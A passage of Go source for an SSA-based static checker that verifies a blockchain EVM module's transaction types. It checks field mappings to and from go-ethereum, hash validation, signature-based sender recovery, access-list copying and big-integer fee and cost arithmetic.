		map[string]string{"ChainID": "GetChainID", "Nonce": "GetNonce", "GasPrice": "GetGasPrice", "Gas": "GetGas", "To": "GetTo", "Value": "GetValue", "Data": "GetData", "AccessList": "GetAccessList", "V": "sig:0", "R": "sig:1", "S": "sig:2"}},
	{"DynamicFeeTx", "DynamicFeeTx", "NewDynamicFeeTx", "DynamicFeeTxType",
		map[string]string{"ChainID": "ChainId", "Nonce": "Nonce", "GasTipCap": "GasTipCap", "GasFeeCap": "GasFeeCap", "GasLimit": "Gas", "To": "To", "Amount": "Value", "Data": "Data", "Accesses": "AccessList", "V": "sig:0", "R": "sig:1", "S": "sig:2"},
		map[string]string{"ChainID": "GetChainID", "Nonce": "GetNonce", "GasTipCap": "GetGasTipCap", "GasFeeCap": "GetGasFeeCap", "GasLimit": "GetGas", "To": "GetTo", "Amount": "GetValue", "Data": "GetData", "Accesses": "GetAccessList"},
		map[string]string{"ChainID": "GetChainID", "Nonce": "GetNonce", "GasTipCap": "GetGasTipCap", "GasFeeCap": "GetGasFeeCap", "Gas": "GetGas", "To": "GetTo", "Value": "GetValue", "Data": "GetData", "AccessList": "GetAccessList", "V": "sig:0", "R": "sig:1", "S": "sig:2"}},
}

const evmTypes = "x/evm/types"

func structFields(t *types.TypeName) []string {
	st, ok := t.Type().Underlying().(*types.Struct)
	if !ok {
		return nil
	}
	var out []string
	for i := 0; i < st.NumFields(); i++ {
		f := st.Field(i)
		if f.Exported() && !strings.HasPrefix(f.Name(), "XXX_") {
			out = append(out, f.Name())
		}
	}
	sort.Strings(out)
	return out
}

// storesByField: stores in fn into fields of struct named sn (in package suffix pkg).
func storesByField(fn *ssa.Function, sn, pkgSuffix string) map[string][]*ssa.Store {
	out := map[string][]*ssa.Store{}
	eachInstr(fn, func(in ssa.Instruction) {
		st, ok := in.(*ssa.Store)
		if !ok {
			return
		}
		fa, ok := st.Addr.(*ssa.FieldAddr)
		if !ok {
			return
		}
		s, f, ok := fieldOfAddr(fa)
		if !ok || s != sn || !pathHasSuffix(namedPkgPath(fa.X.Type()), pkgSuffix) {
			return
		}
		out[f] = append(out[f], st)
	})
	return out
}

func sigSource(v ssa.Value, callName string) (int, bool) {
	found, idx := false, -1
	backSlice(v).Any(func(x ssa.Value) bool {
		e, ok := x.(*ssa.Extract)
		if !ok {
			return false
		}
		c, ok := e.Tuple.(*ssa.Call)
		if ok && callInfo(c).Name == callName {
			found, idx = true, e.Index
		}
		return false
	})
	return idx, found
}

func runC18(r *Run) {
	P := r.P
	r.Rule("R1", "TABLE.field-maps per tx type: constructor∪SetSignatureValues assign every proto field, each from the tabled go-ethereum accessor; getters return their field; AsEthereumData assigns every field of the go-ethereum struct from the tabled getter; Copy assigns every field from the same field")
	r.Rule("R2", "TABLE.types: NewTxDataFromTx maps DynamicFeeTxType/AccessListTxType/default to their constructors; TxType() returns the matching constant; exactly the three types implement TxData")
	r.Rule("R3", "OWN/PATH.hash: stores to MsgEthereumTx.Hash have a value derived from <tx>.Hash().Hex(); ValidateBasic returns nil only where msg.Hash equals the recomputed hash")
	r.Rule("R4", "FLOW.fee-figures: Fee = f(gas price | fee cap, gas limit); Cost = f(Fee, value); EffectiveFee/EffectiveGasPrice of DynamicFeeTx = f(base fee, fee cap, tip cap)")

	for _, sp := range txSpecs {
		pt := P.LookupType(haqqMod+"/"+evmTypes, sp.Proto)
		gt := P.LookupType("github.com/ethereum/go-ethereum/core/types", sp.Geth)
		if pt == nil || gt == nil {
			r.Bad("R1", "anchor/"+sp.Proto, "", "tx type not found")
			continue
		}
		pf, gf := structFields(pt), structFields(gt)
		// ---- constructor + SetSignatureValues ----
		ctor, ok1 := P.FnOK(evmTypes + "." + sp.Ctor)
		ssv, ok2 := P.FnOK("(*" + evmTypes + "." + sp.Proto + ").SetSignatureValues")
		if !ok1 || !ok2 {
			r.Bad("R1", "anchor/"+sp.Proto+"-ctor", "", "constructor or SetSignatureValues not found")
			continue
		}
		cst := storesByField(ctor, sp.Proto, evmTypes)
		sst := storesByField(ssv, sp.Proto, evmTypes)
		// the ctor must call SetSignatureValues(chainId, v, r, s) with the RawSignatureValues extracts in order
		var ssvCall ssa.CallInstruction
		eachCall(ctor, func(ci CallInfo) {
			if ci.Name == "SetSignatureValues" {
				ssvCall = ci.Instr
			}
		})
		for _, f := range pf {
			inst := fmt.Sprintf("%s.%s#from-ethereum/%s", evmTypes, sp.Ctor, f)
			src := sp.FromGeth[f]
			var stores []*ssa.Store
			stores = append(stores, cst[f]...)
			viaSSV := len(sst[f]) > 0 && ssvCall != nil
			if len(stores) == 0 && !viaSSV {
				r.Bad("R1", inst, P.Pos(fnPos(ctor)), "proto field "+sp.Proto+"."+f+" is never assigned when the message is built from an Ethereum transaction (the field would be dropped)")
				continue
			}
			ok := true
			detail := ""
			for _, st := range stores {
				if strings.HasPrefix(src, "sig:") {
					continue
				}
				if !backSlice(st.Val).HasCall(func(g CallInfo) bool { return g.Name == src && g.Recv == "Transaction" }) {
					ok, detail = false, "assigned from something other than tx."+src+"()"
				}
			}
			if viaSSV {
				// which SetSignatureValues parameter feeds this field, and what the ctor passes for it
				pidx := -1
				for _, st := range sst[f] {
					for i, p := range ssv.Params {
						if backSlice(st.Val).Has(p) {
							pidx = i
						}
					}
				}
				if pidx < 0 {
					ok, detail = false, "SetSignatureValues does not assign it from a parameter"
				} else {
					arg := ssvCall.Common().Args[pidx]
					if strings.HasPrefix(src, "sig:") {
						want := int(src[4] - '0')
						idx, found := sigSource(arg, "RawSignatureValues")
						if !found || idx != want {
							ok, detail = false, fmt.Sprintf("signature component: expected RawSignatureValues()[%d], got [%d] (found=%v)", want, idx, found)
						}
					} else if !backSlice(arg).HasCall(func(g CallInfo) bool { return g.Name == src && g.Recv == "Transaction" }) {
						ok, detail = false, "SetSignatureValues receives something other than tx."+src+"()"
					}
				}
			}
			r.Check(ok, "R1", inst, P.Pos(fnPos(ctor)), "← tx."+src, "proto field "+sp.Proto+"."+f+": "+detail)
		}
		// ---- getters ----
		for f, g := range sp.Getter {
			fn, ok := P.FnOK("(*" + evmTypes + "." + sp.Proto + ")." + g)
			if !ok {
				r.Bad("R1", evmTypes+"."+sp.Proto+"#getter/"+g, "", "getter not found")
				continue
			}
			okG, n := true, 0
			eachInstr(fn, func(in ssa.Instruction) {
				ret, isR := in.(*ssa.Return)
				if !isR || len(ret.Results) == 0 || isNilConst(ret.Results[0]) {
					return
				}
				n++
				s := backSlice(ret.Results[0])
				if !s.HasField(sp.Proto, f) {
					// delegating getter (e.g. GetGasPrice → GetGasFeeCap)
					deleg := s.Any(func(v ssa.Value) bool {
						c, ok := v.(*ssa.Call)
						if !ok {
							return false
						}
						nm := callInfo(c).Name
						for ff, gg := range sp.Getter {
							if gg == nm && ff == f {
								return true
							}
						}
						return false
					})
					if !deleg {
						okG = false
					}
				}
			})
			r.Check(okG && n > 0, "R1", evmTypes+"."+sp.Proto+"#getter/"+g, P.Pos(fnPos(fn)), "returns field "+f, g+" does not return (a conversion of) field "+f)
		}
		if grs, ok := P.FnOK("(*" + evmTypes + "." + sp.Proto + ").GetRawSignatureValues"); ok {
			okOrder := false
			eachCall(grs, func(ci CallInfo) {
				if ci.Name == "rawSignatureValues" {
					a := ci.Instr.Common().Args
					if len(a) == 3 {
						okOrder = backSlice(a[0]).HasField(sp.Proto, "V") && backSlice(a[1]).HasField(sp.Proto, "R") && backSlice(a[2]).HasField(sp.Proto, "S") &&
							!backSlice(a[0]).HasField(sp.Proto, "R") && !backSlice(a[1]).HasField(sp.Proto, "S")
					}
				}
			})
			r.Check(okOrder, "R1", evmTypes+"."+sp.Proto+"#getter/GetRawSignatureValues", P.Pos(fnPos(grs)), "rawSignatureValues(V, R, S)", "GetRawSignatureValues does not pass the fields V, R, S in that order")
		}
		// ---- AsEthereumData ----
		if ae, ok := P.FnOK("(*" + evmTypes + "." + sp.Proto + ").AsEthereumData"); ok {
			gst := storesByField(ae, sp.Geth, "go-ethereum/core/types")
			for _, f := range gf {
				inst := fmt.Sprintf("(*%s.%s).AsEthereumData#to-ethereum/%s", evmTypes, sp.Proto, f)
				want := sp.ToGeth[f]
				sts := gst[f]
				if len(sts) == 0 {
					r.Bad("R1", inst, P.Pos(fnPos(ae)), "go-ethereum field "+sp.Geth+"."+f+" is not set when the message is turned back into an Ethereum transaction (hash and sender would change)")
					continue
				}
				ok := true
				for _, st := range sts {
					if strings.HasPrefix(want, "sig:") {
						idx, found := sigSource(st.Val, "GetRawSignatureValues")
						if !found || idx != int(want[4]-'0') {
							ok = false
						}
					} else if c, isC := stripValue(st.Val).(*ssa.Call); !isC || callInfo(c).Name != want {
						ok = false
					}
				}
				r.Check(ok, "R1", inst, P.Pos(fnPos(ae)), "← "+want, "go-ethereum field "+sp.Geth+"."+f+" is not set from "+want)
			}
			if len(sp.ToGeth) != len(gf) {
				r.Bad("R1", fmt.Sprintf("(*%s.%s).AsEthereumData#field-table", evmTypes, sp.Proto), P.Pos(fnPos(ae)), fmt.Sprintf("go-ethereum struct %s has fields %v; the checker's table knows %d of them: a new field needs a confirmed mapping", sp.Geth, gf, len(sp.ToGeth)))
			}
		} else {
			r.Bad("R1", "anchor/"+sp.Proto+".AsEthereumData", "", "not found")
		}
		if len(sp.FromGeth) != len(pf) {
			r.Bad("R1", evmTypes+"."+sp.Proto+"#field-table", "", fmt.Sprintf("proto struct %s has fields %v; the checker's table knows %d of them: a new field needs a confirmed mapping", sp.Proto, pf, len(sp.FromGeth)))
		}
		// ---- Copy ----
		if cp, ok := P.FnOK("(*" + evmTypes + "." + sp.Proto + ").Copy"); ok {
			cs := storesByField(cp, sp.Proto, evmTypes)
			for _, f := range pf {
				inst := fmt.Sprintf("(*%s.%s).Copy#%s", evmTypes, sp.Proto, f)
				sts := cs[f]
				ok := len(sts) > 0
				for _, st := range sts {
					s := backSlice(st.Val)
					if !s.HasField(sp.Proto, f) {
						ok = false
					}
					for _, other := range pf {
						if other != f && s.HasField(sp.Proto, other) {
							ok = false
						}
					}
				}
				r.Check(ok, "R1", inst, P.Pos(fnPos(cp)), "copied from the same field", "Copy does not copy field "+f+" from the receiver's field "+f)
			}
		} else {
			r.Bad("R1", "anchor/"+sp.Proto+".Copy", "", "not found")
		}
		// ---- TxType ----
		if tt, ok := P.FnOK("(*" + evmTypes + "." + sp.Proto + ").TxType"); ok {
			want := P.LookupObj("github.com/ethereum/go-ethereum/core/types", sp.TypeConst)
			okT := false
			eachInstr(tt, func(in ssa.Instruction) {
				if ret, isR := in.(*ssa.Return); isR {
					if c, isC := ret.Results[0].(*ssa.Const); isC && want != nil {
						if wc, ok := want.(*types.Const); ok && c.Value != nil && c.Value.String() == wc.Val().String() {
							okT = true
						}
					}
				}
			})
			r.Check(okT, "R2", evmTypes+"."+sp.Proto+"#TxType", P.Pos(fnPos(tt)), "returns ethtypes."+sp.TypeConst, "TxType() does not return ethtypes."+sp.TypeConst)
		}
	}

	// ---------- R2 ----------
	if fn, ok := P.FnOK(evmTypes + ".NewTxDataFromTx"); ok {
		want := map[string]string{"DynamicFeeTxType": "NewDynamicFeeTx", "AccessListTxType": "newAccessListTx"}
		got := map[string]string{}
		var eq []Edge
		for _, b := range fn.Blocks {
			ifi, ok := lastIf(b)
			if !ok {
				continue
			}
			bo, ok := ifi.Cond.(*ssa.BinOp)
			if !ok || bo.Op != token.EQL {
				continue
			}
			c, okc := bo.Y.(*ssa.Const)
			if !okc || !backSlice(bo.X).HasCall(func(g CallInfo) bool { return g.Name == "Type" }) {
				continue
			}
			eq = append(eq, Edge{b, 0})
			name := ""
			for n := range want {
				if o, ok := P.LookupObj("github.com/ethereum/go-ethereum/core/types", n).(*types.Const); ok && c.Value != nil && o.Val().String() == c.Value.String() {
					name = n
				}
			}
			for _, in := range b.Succs[0].Instrs {
				if cc, ok := in.(ssa.CallInstruction); ok {
					if ci := callInfo(cc); ci.Static != nil && pathHasSuffix(ci.PkgPath, evmTypes) {
						got[name] = ci.Name
					}
				}
			}
		}
		for k, v := range want {
			r.Check(got[k] == v, "R2", evmTypes+".NewTxDataFromTx#"+k, P.Pos(fnPos(fn)), "→ "+v, fmt.Sprintf("transaction type %s is decoded by %q, expected %s", k, got[k], v))
		}
		// default → NewLegacyTx
		def := ""
		w := PathQuery{Fn: fn, Target: func(in ssa.Instruction) bool {
			if cc, ok := in.(ssa.CallInstruction); ok {
				if ci := callInfo(cc); ci.Static != nil && pathHasSuffix(ci.PkgPath, evmTypes) {
					def = ci.Name
					return true
				}
			}
			return false
		}, DelEdge: edgeSet(eq)}.Search()
		r.Check(w != nil && def == "NewLegacyTx", "R2", evmTypes+".NewTxDataFromTx#default", P.Pos(fnPos(fn)), "→ NewLegacyTx", "the default (legacy) transaction type is decoded by "+def)
	} else {
		r.Bad("R2", "anchor/NewTxDataFromTx", "", "not found")
	}
	if ti := P.lookupIface(haqqMod+"/"+evmTypes, "TxData"); ti != nil {
		var impl []string
		for _, t := range scopesOf(r).G.concrete {
			if p, ok := t.(*types.Pointer); ok && types.Implements(p, ti) && !types.Implements(p.Elem(), ti) {
				impl = append(impl, namedName(p))
			} else if _, isP := t.(*types.Pointer); !isP && types.Implements(t, ti) {
				impl = append(impl, namedName(t))
			}
		}
		sort.Strings(impl)
		impl = uniq(impl)
		r.Check(strings.Join(impl, ",") == "AccessListTx,DynamicFeeTx,LegacyTx", "R2", evmTypes+"#TxData-implementers", "", "exactly the three tx types", fmt.Sprintf("TxData is implemented by %v: a new transaction type needs its field maps confirmed and a case in NewTxDataFromTx", impl))
	}

	// ---------- R3 ----------
	nH := 0
	for _, fn := range P.Funcs {
		if isTestSupport(P, fn) || fn.Synthetic != "" || isGeneratedFile(P.FileOf(fnPos(outermost(fn)))) {
			continue
		}
		eachInstr(fn, func(in ssa.Instruction) {
			st, ok := in.(*ssa.Store)
			if !ok {
				return
			}
			fa, isFA := st.Addr.(*ssa.FieldAddr)
			if !isFA {
				return
			}
			if sn, f, ok := fieldOfAddr(fa); !ok || sn != "MsgEthereumTx" || f != "Hash" || !pathHasSuffix(namedPkgPath(fa.X.Type()), evmTypes) {
				return
			}
			nH++
			s := backSlice(st.Val)
			ok2 := s.HasCall(func(g CallInfo) bool { return g.Name == "Hex" }) && s.HasCall(func(g CallInfo) bool { return g.Name == "Hash" && g.Recv == "Transaction" })
			r.Check(ok2, "R3", fnID(outermost(fn))+"#writes-Hash", P.Pos(instrPos(in)), "Hash = tx.Hash().Hex()", "MsgEthereumTx.Hash is set to something other than the Ethereum transaction's Hash().Hex()")
		})
	}
	r.Floor("R3", "stores to MsgEthereumTx.Hash", nH, 2)
	if vb, ok := P.FnOK("(" + evmTypes + ".MsgEthereumTx).ValidateBasic"); ok {
		requireGuard(r, "R3", fnID(vb)+"#hash-matches", vb, func(cond ssa.Value) (bool, bool) {
			b, ok := cond.(*ssa.BinOp)
			if !ok || (b.Op != token.NEQ && b.Op != token.EQL) {
				return false, false
			}
			// the recorded STRING itself is compared with the canonical spelling tx.Hash().Hex(): a comparison of
			// parsed hashes would accept other spellings of the same bytes (case, missing 0x, leading junk), and the
			// recorded string is what events and the RPC lookups use verbatim
			isField := func(v ssa.Value) bool { return isFieldLoad(v, "MsgEthereumTx", "Hash") }
			isCalc := func(v ssa.Value) bool {
				c, ok := stripValue(v).(*ssa.Call)
				if !ok || callInfo(c).Name != "Hex" {
					return false
				}
				return backSlice(v).HasCall(func(g CallInfo) bool { return g.Name == "Hash" && g.Recv == "Transaction" })
			}
			if (isField(b.X) && isCalc(b.Y)) || (isField(b.Y) && isCalc(b.X)) {
				return b.Op == token.EQL, true
			}
			return false, false
		}, nil, func(in ssa.Instruction) bool { return isExitKind(in, ExitSuccess) }, "valid only where the recorded hash equals the transaction hash", "ValidateBasic accepts a message whose recorded hash differs from the Ethereum transaction hash")
	}

	// access-list conversions (the Accesses ↔ AccessList leg of the field maps): every tuple gets its own key slice
	r.Rule("R7", "PATH.transaction-from-data: MsgEthereumTx.AsTransaction builds the Ethereum transaction from the message's own Data on every path — each non-nil result is preceded by UnpackTxData(msg.Data) and derives from it (NewTx(txData.AsEthereumData())); nothing else (the Hash or From strings of the envelope, a lookup keyed by them) selects the transaction that is returned")
	if at, ok := P.FnOK("(" + evmTypes + ".MsgEthereumTx).AsTransaction"); ok {
		isUnpack := isCallMatching(func(ci CallInfo) bool {
			return ci.Name == "UnpackTxData" && len(callArgs(ci.Instr)) > 0 && backSlice(callArgs(ci.Instr)[0]).HasField("MsgEthereumTx", "Data")
		})
		okPath, okFlow := true, true
		var wit []string
		eachInstr(at, func(in ssa.Instruction) {
			ret, ok := in.(*ssa.Return)
			if !ok || len(ret.Results) != 1 || isNilConst(ret.Results[0]) {
				return
			}
			isThis := func(x ssa.Instruction) bool { return x == in }
			if w := (PathQuery{Fn: at, Block: isUnpack, Target: isThis}).Search(); w != nil {
				okPath = false
				wit = P.witness(w)
			}
			sl := backSlice(ret.Results[0])
			if !sl.HasCall(func(g CallInfo) bool { return g.Name == "UnpackTxData" }) || sl.HasField("MsgEthereumTx", "Hash") || sl.HasField("MsgEthereumTx", "From") {
				okFlow = false
			}
		})
		r.Check(okPath && okFlow, "R7", fnID(at)+"#from-data-on-every-path", P.Pos(fnPos(at)), "every non-nil result = NewTx(UnpackTxData(msg.Data).AsEthereumData())",
			"AsTransaction can return a transaction that was not built from the message's Data (a result selected by the envelope's Hash/From strings or a memo keyed by them): hash, sender and every field read afterwards belong to another transaction than the one the message carries", wit...)
	} else {
		r.Bad("R7", "anchor/MsgEthereumTx.AsTransaction", "", "not found")
	}
	r.Rule("R6", "PATH+FLOW.sender-recovered: MsgEthereumTx.GetSender returns an address only after an error-checked signer.Sender(msg.AsTransaction()) on every success path, the returned address is that call's result, and the signer is built from the chainID parameter; the From field (a cache that anyone assembling the envelope can fill) is never the source of the returned sender. GetSigners returns that sender")
	if gs, ok := P.FnOK("(*" + evmTypes + ".MsgEthereumTx).GetSender"); ok {
		isSender := isCallMatching(func(ci CallInfo) bool { return ci.Name == "Sender" && ci.Invoke })
		w := PathQuery{Fn: gs, Block: isSender, Target: isSuccessExit}.Search()
		calls := findCalls(gs, func(ci CallInfo) bool { return ci.Name == "Sender" && ci.Invoke })
		handled := len(calls) > 0
		for _, c := range calls {
			if !errHandled(c) {
				handled = false
			}
		}
		fromRecovered, fromField, signerFromParam := true, false, false
		eachInstr(gs, func(in ssa.Instruction) {
			ret, ok := in.(*ssa.Return)
			if !ok || !isSuccessExit(in) {
				return
			}
			sl := backSlice(retOperands(ret)[0])
			if !sl.HasCall(func(ci CallInfo) bool { return ci.Name == "Sender" && ci.Invoke }) {
				fromRecovered = false
			}
			if sl.HasField("MsgEthereumTx", "From") {
				fromField = true
			}
		})
		for _, c := range calls {
			if backSlice(c.Common().Value).HasParam("chainID") {
				signerFromParam = true
			}
		}
		r.Check(w == nil && handled && fromRecovered && !fromField && signerFromParam, "R6", fnID(gs)+"#sender-recovered", P.Pos(fnPos(gs)), "sender = signer(chainID).Sender(AsTransaction()) on every success path",
			fmt.Sprintf("GetSender can return a sender that was not recovered from the signature (path without Sender: %v, error-checked: %v, result from Sender: %v, result from the From field: %v, signer from chainID: %v): the envelope's From is attacker-controlled text, so signers/sender of the wrapped transaction no longer equal the Ethereum transaction's", w != nil, handled, fromRecovered, fromField, signerFromParam), P.witness(w)...)
	} else {
		r.Bad("R6", "anchor/MsgEthereumTx.GetSender", "", "not found")
	}
	if gsig, ok := P.FnOK("(*" + evmTypes + ".MsgEthereumTx).GetSigners"); ok {
		okS := false
		eachInstr(gsig, func(in ssa.Instruction) {
			if ret, ok := in.(*ssa.Return); ok && len(ret.Results) > 0 {
				if backSlice(ret.Results[0]).HasCall(func(ci CallInfo) bool { return ci.Name == "GetSender" }) {
					okS = true
				}
			}
		})
		r.Check(okS, "R6", fnID(gsig)+"#signers-from-sender", P.Pos(fnPos(gsig)), "GetSigners = {GetSender(chain id of the tx data)}", "GetSigners no longer derives the signer from GetSender")
	}
	r.Rule("R5", "FLOW.access-list: in NewAccessList and ToEthAccessList the value stored into a tuple's StorageKeys is a slice allocated inside the per-tuple loop (make), filled from that tuple's keys; the tuple's Address derives from the source tuple's Address")
	for _, id := range []string{evmTypes + ".NewAccessList", "(" + evmTypes + ".AccessList).ToEthAccessList"} {
		fn, ok := P.FnOK(id)
		if !ok {
			r.Bad("R5", "anchor/"+id, "", "not found")
			continue
		}
		nSt := 0
		eachInstr(fn, func(in ssa.Instruction) {
			st, ok := in.(*ssa.Store)
			if !ok {
				return
			}
			sn, f, ok := fieldOfAddr(st.Addr)
			if !ok || sn != "AccessTuple" {
				return
			}
			switch f {
			case "StorageKeys":
				nSt++
				mk, isMk := stripValue(st.Val).(*ssa.MakeSlice)
				fresh := isMk && sameLoop(mk.Block(), st.Block())
				dep := isMk && backSlice(mk.Len).HasField("AccessTuple", "StorageKeys")
				r.Check(fresh && dep, "R5", fnID(fn)+"#tuple-keys-fresh", P.Pos(instrPos(in)), "per-tuple make([]…, len(tuple.StorageKeys))",
					"a tuple's StorageKeys is not a slice freshly allocated for that tuple (sized by that tuple's keys): tuples can share a backing array, so unwrapping the message yields a different access list — and a different hash and sender — than the one that was signed")
			case "Address":
				as := backSlice(st.Val)
				r.Check(as.HasField("AccessTuple", "Address") && indexedByLoopOnly(as), "R5", fnID(fn)+"#tuple-address", P.Pos(instrPos(in)), "Address from the current source tuple's Address", "a tuple's Address does not derive from the Address of the source tuple of the same iteration (e.g. a fixed element such as al[0])")
			}
		})
		r.Floor("R5", "StorageKeys stores in "+id, nSt, 1)
		// keys are converted element-wise from the same tuple
		okElem := false
		eachInstr(fn, func(in ssa.Instruction) {
			st, ok := in.(*ssa.Store)
			if !ok {
				return
			}
			if ia, ok := st.Addr.(*ssa.IndexAddr); ok {
				if _, isMk := ia.X.(*ssa.MakeSlice); isMk && backSlice(st.Val).HasField("AccessTuple", "StorageKeys") && indexedByLoopOnly(backSlice(st.Val)) {
					okElem = true
				}
			}
		})
		r.Check(okElem, "R5", fnID(fn)+"#keys-copied", P.Pos(fnPos(fn)), "each key converted from the tuple's StorageKeys", "the per-tuple key slice is not filled from the tuple's own StorageKeys")
	}

	// effective gas price: one definition only
	var dynEGP *ssa.Function
	for _, pre := range []string{"(" + evmTypes + ".DynamicFeeTx).", "(*" + evmTypes + ".DynamicFeeTx)."} {
		if f, ok := P.FnOK(pre + "EffectiveGasPrice"); ok && f.Synthetic == "" {
			dynEGP = f
		}
	}
	if dynEGP == nil {
		r.Bad("R4", evmTypes+".DynamicFeeTx#EffectiveGasPrice", "", "method not found")
	}
	if fn := dynEGP; fn != nil {
		nRet, okE := 0, true
		eachInstr(fn, func(in ssa.Instruction) {
			ret, isR := in.(*ssa.Return)
			if !isR {
				return
			}
			c, isC := ret.Results[0].(*ssa.Call)
			// without a base fee (London inactive) the price is the fee cap, as in go-ethereum: a return of the fee cap
			// alone is the nil-base-fee answer (R11 checks that the helper is reached only with a base fee)
			if isC && callInfo(c).Name == "GetGasFeeCap" {
				return
			}
			nRet++
			if !isC || callInfo(c).Name != "EffectiveGasPrice" || callInfo(c).Recv != "" || len(c.Call.Args) != 3 {
				okE = false
				return
			}
			a := c.Call.Args
			s1, s2 := backSlice(a[1]), backSlice(a[2])
			c1 := s1.HasCall(func(g CallInfo) bool { return g.Name == "GetGasFeeCap" }) || s1.HasField("DynamicFeeTx", "GasFeeCap")
			c2 := s2.HasCall(func(g CallInfo) bool { return g.Name == "GetGasTipCap" }) || s2.HasField("DynamicFeeTx", "GasTipCap")
			if !isParam(a[0], "baseFee") || !c1 || !c2 || s1.HasField("DynamicFeeTx", "GasTipCap") || s2.HasField("DynamicFeeTx", "GasFeeCap") {
				okE = false
			}
		})
		r.Check(okE && nRet == 1, "R4", fnID(fn)+"#single-definition", P.Pos(fnPos(fn)), "returns EffectiveGasPrice(baseFee, feeCap, tipCap) (or the fee cap when there is no base fee)", "DynamicFeeTx.EffectiveGasPrice is not the single expression EffectiveGasPrice(baseFee, GetGasFeeCap(), GetGasTipCap()): effective price/fee/cost figures derived from the message can differ from go-ethereum's for the same transaction")
	}
	for _, tn := range []string{"LegacyTx", "AccessListTx"} {
		var fn *ssa.Function
		for _, pre := range []string{"(" + evmTypes + "." + tn + ").", "(*" + evmTypes + "." + tn + ")."} {
			if f, ok := P.FnOK(pre + "EffectiveGasPrice"); ok && f.Synthetic == "" {
				fn = f
			}
		}
		if fn == nil {
			r.Bad("R4", evmTypes+"."+tn+"#EffectiveGasPrice", "", "method not found")
		}
		if ok := fn != nil; ok {
			nRet, okE := 0, true
			eachInstr(fn, func(in ssa.Instruction) {
				if ret, isR := in.(*ssa.Return); isR {
					nRet++
					if _, isG := callNamed(ret.Results[0], "GetGasPrice"); !isG {
						okE = false
					}
				}
			})
			r.Check(okE && nRet == 1, "R4", fnID(fn)+"#single-definition", P.Pos(fnPos(fn)), "returns GetGasPrice()", tn+".EffectiveGasPrice is not GetGasPrice()")
		}
	}

	// ---------- R4 ----------
	feeDeps := map[string]map[string][]string{
		"LegacyTx":     {"Fee": {"GetGasPrice", "GasLimit"}, "Cost": {"Fee", "GetValue"}},
		"AccessListTx": {"Fee": {"GetGasPrice", "GasLimit"}, "Cost": {"Fee", "GetValue"}},
		"DynamicFeeTx": {"Fee": {"GetGasFeeCap", "GasLimit"}, "Cost": {"Fee", "GetValue"}, "EffectiveGasPrice": {"EffectiveGasPrice", "GasFeeCap", "GasTipCap"}, "EffectiveFee": {"EffectiveGasPrice", "GasLimit"}},
	}
	for tname, m := range feeDeps {
		for meth, deps := range m {
			var fn *ssa.Function
			for _, pre := range []string{"(" + evmTypes + "." + tname + ").", "(*" + evmTypes + "." + tname + ")."} {
				if f, ok := P.FnOK(pre + meth); ok && f.Synthetic == "" {
					fn = f
				}
			}
			if fn == nil {
				r.Bad("R4", evmTypes+"."+tname+"#"+meth, "", "method not found")
				continue
			}
			var all []ssa.Value
			eachInstr(fn, func(in ssa.Instruction) {
				if ret, ok := in.(*ssa.Return); ok {
					all = append(all, ret.Results...)
				}
			})
			s := backSlice(all...)
			var missing []string
			for _, d := range deps {
				has := s.HasCall(func(g CallInfo) bool { return g.Name == d }) || s.HasField(tname, d)
				if !has && d == "GasLimit" {
					has = s.HasCall(func(g CallInfo) bool { return g.Name == "GetGas" })
				}
				if !has && fn.Signature.Params().Len() > 0 && d == "EffectiveGasPrice" {
					has = s.HasCall(func(g CallInfo) bool { return g.Name == d })
				}
				if !has {
					missing = append(missing, d)
				}
			}
			r.Check(len(missing) == 0, "R4", evmTypes+"."+tname+"#"+meth, P.Pos(fnPos(fn)), fmt.Sprintf("depends on %v", deps), fmt.Sprintf("%s.%s no longer depends on %v", tname, meth, missing))
		}
	}
	// the shared helpers behind every fee/cost figure work in arbitrary precision: fee = big.Int.Mul(price,
	// SetUint64(gas)), cost = big.Int.Add(fee, value); no machine-word arithmetic on their inputs (it wraps)
	for name, op := range map[string]string{"fee": "Mul", "cost": "Add"} {
		fn, ok := P.FnOK(evmTypes + "." + name)
		if !ok {
			r.Bad("R4", evmTypes+"."+name+"#arbitrary-precision", "", "helper not found")
			continue
		}
		machine := ""
		eachInstr(fn, func(in ssa.Instruction) {
			if bo, ok := in.(*ssa.BinOp); ok {
				switch bo.Op {
				case token.MUL, token.ADD, token.SUB, token.SHL:
					if bt, ok := bo.Type().Underlying().(*types.Basic); ok && bt.Info()&types.IsInteger != 0 {
						machine = bo.Op.String() + " at " + P.Pos(instrPos(in))
					}
				}
			}
		})
		okRet, nRet := true, 0
		eachInstr(fn, func(in ssa.Instruction) {
			ret, ok := in.(*ssa.Return)
			if !ok {
				return
			}
			nRet++
			v := stripValue(retOperands(ret)[0])
			if name == "cost" {
				// cost returns fee itself when value is nil
				if p, ok := v.(*ssa.Parameter); ok && p.Name() == "fee" {
					return
				}
			}
			c, ok := v.(*ssa.Call)
			if !ok || callInfo(c).Name != op || callInfo(c).Recv != "Int" || callInfo(c).PkgPath != "math/big" {
				okRet = false
			}
		})
		r.Check(machine == "" && okRet && nRet >= 1, "R4", evmTypes+"."+name+"#arbitrary-precision", P.Pos(fnPos(fn)), name+" = big.Int."+op+"(…) on every path, no machine-word arithmetic",
			fmt.Sprintf("the helper %s() no longer computes big.Int.%s on every path (machine-word arithmetic: %q): a product or sum of message fields that exceeds 64 bits wraps, so Fee/Cost figures of the message differ from the Ethereum transaction's", name, op, machine))
	}

	// ---------- R8: the envelope's fee is a canonical coin set ----------
	r.Rule("R8", "PATH.envelope-fee-is-canonical: the coin set BuildTx hands to SetFeeAmount equals the one EthValidateBasicDecorator recomputes from the message (a sorted sdk.Coins without zero coins): it is produced by sdk.NewCoins / Coins.Add, or every coin put into it by hand is reachable only over a positive-amount edge (Sign() > 0 / IsPositive()) — with a zero fee a hand-made [0denom] survives encoding and the decoded transaction is rejected")
	if bt, ok := P.FnOK("(*" + evmTypes + ".MsgEthereumTx).BuildTx"); ok {
		var feeArg ssa.Value
		eachCall(bt, func(ci CallInfo) {
			if ci.Name == "SetFeeAmount" {
				a := ci.Instr.Common().Args
				feeArg = a[len(a)-1]
			}
		})
		if feeArg == nil {
			r.Bad("R8", fnID(bt)+"#envelope-fee", P.Pos(fnPos(bt)), "BuildTx no longer sets the fee of the envelope")
		} else {
			canonical := false
			if c, ok := stripValue(feeArg).(*ssa.Call); ok {
				if ci := callInfo(c); (ci.Name == "NewCoins" || (ci.Name == "Add" && ci.Recv == "Coins")) && strings.HasSuffix(ci.PkgPath, "cosmos-sdk/types") {
					canonical = true
				}
			}
			pos, _ := guardPassEdges(bt, func(cond ssa.Value) (bool, bool) {
				if c, ok := cond.(*ssa.Call); ok {
					if n := callInfo(c).Name; n == "IsPositive" {
						return true, true
					}
